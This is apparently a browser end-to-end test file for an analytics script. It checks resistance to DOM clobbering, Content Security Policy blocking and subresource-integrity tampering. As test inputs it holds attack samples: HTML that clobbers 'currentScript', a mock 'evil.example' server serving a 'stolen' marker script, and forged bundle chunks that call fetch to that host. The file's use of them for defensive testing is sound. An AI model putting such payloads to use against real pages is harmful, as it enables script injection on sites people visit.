import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';

import { domReads } from '../../../scripts/domReads';
import { nameHash } from '../../../src/platform/bundleFiles';
import { builtFile, scriptName } from '../support/bundleFile';
import { forgeFiles, withPrelude } from '../support/changedBundle';
import { openChanged, openWith } from '../support/changedPage';
import { letPass, withClock } from '../support/clock';
import { trackLast } from '../support/entered';
import { can, listMissing } from '../support/needs';
import { stageForTests } from '../support/stage';
import { until } from '../support/until';
import { refusedWorkers, uuidV4, type Visitor } from '../support/visitor';

const evil = 'http://evil.example';
const dist = resolve(__dirname, '../../../dist');

/** An attacker's server. It answers every address with a script that leaves its mark. Answers what was asked. */
const openEvil = async ({ context }: Visitor): Promise<readonly string[]> => {
  const asked: string[] = [];
  await context.route(`${evil}/**`, async (route) => {
    asked.push(route.request().url());
    await route.fulfill({
      body: 'globalThis.stolen = true; globalThis.document && (document.documentElement.dataset.stolen = "true")',
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
    });
  });
  return asked;
};

const works = async (visitor: Visitor, stage: ReturnType<typeof stageForTests>): Promise<void> => {
  await visitor.ready();
  const [pageview] = await stage.untilArrived('Pageview');
  expect(pageview?.user_id).toMatch(uuidV4);
  await stage.untilArrived('SegmentEntry');
};

describe('HTML that is no script', () => {
  const stage = stageForTests();

  test('makes no script: an image named currentScript and a script that the policy blocks', async () => {
    const visitor = await stage.visitor({ expected: /Content Security Policy|violates/ });
    const asked = await openEvil(visitor);
    await openWith(
      visitor,
      stage.demo.site,
      `<img name=currentScript><script src=${evil}/x.js></script>`,
      '?csp=strict',
    );
    await works(visitor, stage);
    await trackLast(stage, visitor);
    expect(asked).toEqual([]);
    expect(await visitor.page.evaluate(() => document.documentElement.dataset['stolen'])).toBeUndefined();
    if (can('workers')) expect(visitor.page.workers()).toHaveLength(1);
  });

  listMissing('workers', 'leaves the engine in a worker');

  test('leads chunks to no third party whose script is the last of the page', async () => {
    const visitor = await stage.visitor();
    const asked = await openEvil(visitor);
    await openWith(
      visitor,
      stage.demo.site,
      `<img name=currentScript><script async src=${evil}/ads/third.js></script>`,
      '',
    );
    await works(visitor, stage);
    expect(asked).toEqual([`${evil}/ads/third.js`]);
  });

  describe('whose names are those of the members that the sources read', () => {
    const names = domReads();
    const form = (fields: string): string =>
      `<form id=letters action=/go><input type=text id=company name=company value=Acme><a id=next href=/next></a>${fields}</form>`;

    /** What a visit tells of the page, its link and its form. */
    const told = async (html: string): Promise<unknown> => {
      const visitor = await stage.visitor();
      await openWith(visitor, stage.demo.site, html, '?csp=strict&permutive_debug=true');
      await works(visitor, stage);
      // A first view waits one second for what the page is about; on a busy machine it goes without.
      await until(
        () => visitor.ask(({ context: { geoip, watson } }) => (geoip && watson ? true : undefined)),
        'the page',
      );
      await visitor.ask((permutive) =>
        permutive.addon('web', { page: {}, track_form_submission: true, track_link_click: true }),
      );
      const [, pageview] = await stage.untilArrived('Pageview', 2);
      await visitor.page.evaluate(() => {
        addEventListener('click', (event) => event.preventDefault());
        addEventListener('submit', (event) => event.preventDefault());
        const find = (id: string): HTMLElement => Document.prototype.getElementById.call(document, id)!;
        find('next').click();
        HTMLFormElement.prototype.requestSubmit.call(find('letters') as HTMLFormElement);
      });
      const [[click], [submission]] = await Promise.all([
        stage.untilArrived('LinkClick'),
        stage.untilArrived('FormSubmission'),
      ]);
      const port = new RegExp(`:${await visitor.page.evaluate(() => location.port)}`, 'g');
      const cookie = (await visitor.cookies())['permutive-id'];
      const warnings = await visitor.warnings();
      const properties = [pageview, click, submission].map((event) => event?.properties);
      await stage.endVisits();
      const all = { properties, warnings, hasCookie: uuidV4.test(cookie ?? '') };
      // The demo's server makes up the strength of the emotions of each page.
      const text = JSON.stringify(all, (key, value: unknown) => (key === 'emotion' ? Object.keys(value!) : value));
      return JSON.parse(text.replace(port, '')) as unknown;
    };

    /** What a visit to the same page without such names tells. */
    let control: unknown;
    beforeAll(async () => {
      control = await told(form(''));
    });

    test.each([
      ['images', (name: string) => `<img name=${name}>`],
      ['frames', (name: string) => `<iframe name=${name}></iframe>`],
      ['objects', (name: string) => `<object name=${name}></object>`],
      ['several elements', (name: string) => `<img name=${name}><form name=${name}></form>`],
    ])('hides none of them: %s, and fields of a form', async (_, element) => {
      expect(control).toMatchObject({
        warnings: [],
        hasCookie: true,
        properties: [
          { client: { title: 'Blank page' } },
          { dest_url: 'http://localhost/next' },
          { form: { id: 'letters' } },
        ],
      });
      const fields = names.map((name) => `<input name=${name}>`).join('');
      expect(await told(names.map(element).join('') + form(fields))).toEqual(control);
    });
  });

  test('whose ids are those of the globals that chunks use throws nothing into the page', async () => {
    const visitor = await stage.visitor();
    const ids = [
      `webpackChunk${scriptName}`,
      `webpackChunk${scriptName.replace(/\W/g, '_')}`,
      'bundleHashes',
      'permutiveChunks',
    ];
    await openWith(
      visitor,
      stage.demo.site,
      ids.map((id) => `<a id="${id}" href="${evil}/"></a>`).join(''),
      '?permutive_debug=true',
    );
    await works(visitor, stage);
    expect(await visitor.warnings()).toEqual([]);
  });
});

const explain = (visitor: Visitor): Promise<string | null> => visitor.ask((permutive) => permutive.explain(20123));

/** A page that pins the page script by its hash. */
const openPinned = (visitor: Visitor, site: string, query: string): Promise<void> => {
  const hash = createHash('sha384')
    .update(readFileSync(builtFile('')))
    .digest('base64');
  return openChanged(visitor, site, query, (html) =>
    html.replace(/<script(?=[^>]*-web\.js)/, `<script crossorigin="anonymous" integrity="sha384-${hash}"`),
  );
};

describe('A pinned page', () => {
  const stage = stageForTests();

  test('evaluates in its worker, which reads the definitions as data', async () => {
    const visitor = await stage.visitor();
    await openPinned(visitor, stage.demo.site, '?permutive_debug=true');
    await works(visitor, stage);
    // A part of the worker, which the worker finds and checks itself.
    expect(await explain(visitor)).toMatch(/^Cohort 20123:/);
    expect(await visitor.warnings()).toEqual([]);
  });
});

describe('A file of the bundle that is not the build’s', () => {
  const stage = stageForTests();
  const mark = 'document.documentElement.dataset.stolen = "true"';

  test.each(['deferred', 'engine'])('is not run: the chunk %s', async (chunk) => {
    const visitor = await stage.visitor({
      expected: new RegExp(`integrity|Failed to find a valid digest|${refusedWorkers.source}`),
    });
    await forgeFiles(visitor.page, withPrelude(mark, chunk));
    const query = `?permutive_debug=true${chunk === 'engine' ? '&csp=noworker' : ''}`;
    await openPinned(visitor, stage.demo.site, query);
    await visitor.untilWarned(chunk);
    expect(await visitor.page.evaluate(() => document.documentElement.dataset['stolen'])).toBeUndefined();
  });

  test.each(['worker', 'worker.queries', 'worker.services'])('is not run: %s', async (file) => {
    const visitor = await stage.visitor({ expected: /integrity|Failed to find a valid digest/ });
    const asked = await openEvil(visitor);
    await forgeFiles(visitor.page, withPrelude(`fetch("${evil}/from-the-worker")`, file));
    await openPinned(visitor, stage.demo.site, '?permutive_debug=true');
    await visitor.untilWarned(
      file === 'worker.services' ? 'Exception in the services' : 'queries are evaluated on the page',
    );
    await stage.untilArrived('SegmentEntry');
    expect(asked).toEqual([]);
  });

  test('is not run: the explanations of the worker', async () => {
    const visitor = await stage.visitor({ expected: /integrity|Failed to find a valid digest/ });
    const asked = await openEvil(visitor);
    await forgeFiles(visitor.page, withPrelude(`fetch("${evil}/from-the-worker")`, 'worker.explanations'));
    await openPinned(visitor, stage.demo.site, '?permutive_debug=true');
    await works(visitor, stage);
    expect(await explain(visitor)).toMatch(/^The cohort could not be explained\./);
    expect(asked).toEqual([]);
  });

  test('is not looked for where the page has not pinned the script, on a CDN without CORS', async () => {
    const visitor = await stage.visitor();
    await visitor.page.route(`**/${scriptName}*.js`, async (route) => {
      const response = await route.fetch();
      const headers = Object.entries(response.headers()).filter(([header]) => !header.startsWith('access-control'));
      await route.fulfill({ response, headers: Object.fromEntries(headers) });
    });
    await visitor.open('/blank?permutive_debug=true');
    await works(visitor, stage);
    expect(await visitor.warnings()).toEqual([]);
  });

  test('is none of those that page script, main part, worker and integrity.json know by their hashes', () => {
    const hash = (algorithm: string, file: string): string =>
      createHash(algorithm)
        .update(readFileSync(resolve(dist, file)))
        .digest('base64');
    const listed = JSON.parse(readFileSync(resolve(dist, 'integrity.json'), 'utf8')) as {
      file: string;
      sha384: string;
    }[];
    const scripts = ['', 'main', 'worker'].map((part) => readFileSync(builtFile(part), 'utf8'));
    const others = readdirSync(dist).filter((file) => file.startsWith(`${scriptName}.`) && /(?<!web)\.js$/.test(file));
    expect(others).toHaveLength(16);
    for (const file of others) {
      // Each is known to one of them, so that a change of it changes no other.
      expect(scripts.filter((text) => text.includes(hash('sha256', file)))).toHaveLength(1);
      expect(file).toContain(`.${nameHash(hash('sha256', file))}.js`);
    }
    for (const { file, sha384 } of listed) expect(sha384).toBe(`sha384-${hash('sha384', file)}`);
    expect(listed.map(({ file }) => file)).toEqual(expect.arrayContaining(others));
  });
});

describe('A script without an address', () => {
  const stage = stageForTests();

  test('loads no other file, and says why', async () => {
    const visitor = await stage.visitor();
    await withClock(visitor.page);
    const asked = await openEvil(visitor);
    const files: string[] = [];
    visitor.context.on('request', (request) => {
      if (request.url().startsWith(stage.demo.cdn)) files.push(request.url());
    });
    const text = readFileSync(builtFile(''), 'utf8').replace(/<\/script/g, '<\\/script');
    await openChanged(visitor, stage.demo.site, '?permutive_debug=true', (html) =>
      html
        .replace(/<script[^>]*-web\.js[^>]*><\/script>/, '')
        .replace('</body>', () => `<script>delete permutive.config.cdnBaseUrl;${text}</script></body>`),
    );
    await visitor.untilWarned('The script has no address of its own');
    await letPass(visitor.page, 10_000);
    expect(asked).toEqual([]);
    expect(files).toEqual([]);
  });
});
